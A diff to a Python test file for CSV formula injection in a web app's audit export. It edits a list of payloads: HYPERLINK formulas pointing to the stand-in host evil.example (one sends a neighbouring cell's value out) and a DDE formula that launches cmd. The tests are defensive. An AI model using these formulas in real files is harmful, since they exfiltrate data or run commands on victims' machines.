@@ -193,8 +193,9 @@ def test_pages_refuse_to_be_loaded_by_another_site(client, volunteer_client, adm
 
 # The audit CSV -------------------------------------------------------------------------------
 # What a spreadsheet would run: the first cell sends its neighbours away when clicked.
+# Each fits a target reference (32 characters), as a stored one must.
 FORMULAS = [
-    '=HYPERLINK("https://evil.example/?"&A2,"Open")',
+    '=HYPERLINK("//evil.example","x")',
     "+7 999 000-00-00",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)",
